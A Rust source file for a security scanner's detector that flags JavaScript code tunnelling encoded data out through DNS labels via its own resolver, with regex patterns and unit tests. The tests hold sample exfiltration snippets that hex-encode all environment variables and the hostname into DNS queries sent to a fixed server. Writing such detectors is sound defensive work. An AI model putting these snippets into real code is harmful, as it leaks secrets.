//! Data sent out as DNS labels through a resolver of the code's own: `const r = new dns.Resolver()` (often
//! pointed at a fixed server with `setServers`), then `r.resolveTxt(`${n}.${enc.slice(i, i + 50)}.${zone}`)`
//! in a loop, each label a slice of encoded host data, environment or secrets.
//!
//! EXF015 reads lookups on `dns` itself; a resolver held in a name of the code's choosing escapes a query
//! over one call. What makes it exfiltration is the label: a slice or an encoding (`slice`, `substr`,
//! `toString('hex')`, a base32/base64 helper) of a value, followed by more name. A health check resolves
//! fixed or given names, a blocklist check reverses an address's octets, and a service lookup fills
//! `_${service}._tcp.${domain}` with plain names: none of them cuts encoded data into labels.

use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;
use regex::Regex;
use skill_scan_model::Language;
use std::sync::LazyLock;

pub(crate) static RESOLVER_LABEL_DATA: FileDetector = FileDetector {
    literals: &["Resolver"],
    run: find_resolver_tunnels,
};

/// Resolvers checked per segment.
const MAX_RESOLVERS: usize = 16;
/// Longest host-name argument read.
const MAX_ARGUMENT: usize = 1024;

/// `r = new dns.Resolver(`, `const res = new Resolver(`.
// Constant patterns (their tests compile them): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static NEW_RESOLVER: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(
        r"(?P<name>[A-Za-z_$][\w$]*)\s*=\s*new\s+(?:[A-Za-z_$][\w$]*\s*\.\s*)*Resolver\s*\(",
    )
    .expect("resolver pattern")
});

/// A lookup call on some name: the name and the offset of its first argument.
#[allow(clippy::expect_used)]
static LOOKUP: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"(?P<name>[A-Za-z_$][\w$]*)\s*\.\s*(?:resolve\w*|lookup|reverse)\s*\(\s*")
        .expect("lookup pattern")
});

/// A label cut or encoded from data: `${enc.slice(i, i + 50)}.`, `${Buffer.from(x).toString('hex')}.`,
/// `b32(x) + '.'`.
#[allow(clippy::expect_used)]
static ENCODED_LABEL: LazyLock<Regex> = LazyLock::new(|| {
    let encoded = concat!(
        r"(?:\.\s*(?:slice|substr|substring)\s*\(|toString\s*\(\s*['\x22](?:hex|base64|base64url)",
        r"|\b(?i:b(?:ase)?32|b(?:ase)?64|hex|encode)\w*\s*\()"
    );
    ascii_regex(&format!(
        r"\$\{{[^}}]*{encoded}[^}}]*\}}\.|{encoded}[^,+]*\)\s*\+\s*['\x22]\."
    ))
    .expect("label pattern")
});

/// The first argument's text, cut at a bound: a template literal to its closing backtick, else up to the
/// call's first comma or parenthesis at depth zero.
fn first_argument(rest: &str) -> &str {
    let rest = &rest[..rest.len().min(MAX_ARGUMENT)];
    if let Some(template) = rest.strip_prefix('`') {
        return template.find('`').map_or(rest, |end| &rest[..end + 2]);
    }
    let mut depth = 0i32;
    for (i, b) in rest.bytes().enumerate() {
        match b {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' if depth == 0 => return &rest[..i],
            b')' | b']' | b'}' => depth -= 1,
            b',' if depth == 0 => return &rest[..i],
            _ => {}
        }
    }
    rest
}

fn find_resolver_tunnels(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    if !matches!(
        segment.language,
        Language::Javascript | Language::Typescript
    ) {
        return;
    }
    let body = segment.text(text);
    let resolvers: Vec<&str> = NEW_RESOLVER
        .captures_iter(body)
        .filter_map(|c| c.name("name").map(|n| n.as_str()))
        .take(MAX_RESOLVERS)
        .collect();
    if resolvers.is_empty() {
        return;
    }
    for lookup in LOOKUP.captures_iter(body) {
        let Some(name) = lookup.name("name") else {
            continue;
        };
        if !resolvers.contains(&name.as_str()) {
            continue;
        }
        let Some(whole) = lookup.get(0) else {
            continue;
        };
        let argument = first_argument(&body[whole.end()..]);
        if !ENCODED_LABEL.is_match(argument) {
            continue;
        }
        let start = segment.start + whole.start();
        let end = segment.start + whole.end() + argument.len();
        let hit = Hit {
            start,
            end,
            detail: Some(Box::new(HitDetail {
                message: format!(
                    "A resolver of the code's own looks up names made of encoded or sliced data: {}",
                    argument.trim()
                ),
                related: Vec::new(),
            })),
        };
        if !keep(hit) {
            return;
        }
        // One report per file is enough: the loop repeats the same lookup.
        return;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fires(text: &str) -> bool {
        crate::native::file_detector_fires(
            find_resolver_tunnels,
            text,
            "lib/beacon.js",
            Language::Javascript,
        )
    }

    #[test]
    fn encoded_labels_through_an_own_resolver_fire() {
        assert!(fires(concat!(
            "const { Resolver } = require('dns');\n",
            "const res = new Resolver();\n",
            "res.setServers(['198.51.100.9']);\n",
            "const blob = Buffer.from(JSON.stringify(process.env)).toString('hex');\n",
            "for (let i = 0; i < blob.length; i += 60) res.resolve4(`${blob.slice(i, i + 60)}.t.example.invalid`, () => {});\n",
        )));
        assert!(fires(concat!(
            "const dns = require('dns');\n",
            "const q = new dns.Resolver();\n",
            "q.resolveTxt(base32(os.hostname()) + '.' + zone, () => {});\n",
        )));
    }

    #[test]
    fn health_checks_blocklists_and_service_lookups_are_quiet() {
        let quiet = concat!(
            "const { Resolver } = require('dns').promises;\n",
            "const r = new Resolver();\n",
            "r.setServers(['192.0.2.53']);\n",
            "await r.resolve4(host);\n",
            "await r.resolve4(`${ip.split('.').reverse().join('.')}.bl.example.invalid`);\n",
            "await r.resolveSrv(`_${service}._tcp.${domain}`);\n",
            "await r.resolveTxt(`${name.toLowerCase()}.example.invalid`);\n",
        );
        assert!(!fires(quiet));
        // Encoded labels looked up through `dns` itself are EXF015's.
        assert!(!fires(
            "dns.resolve4(`${blob.slice(0, 60)}.t.example.invalid`, cb); // new Resolver() elsewhere\n"
        ));
    }
}
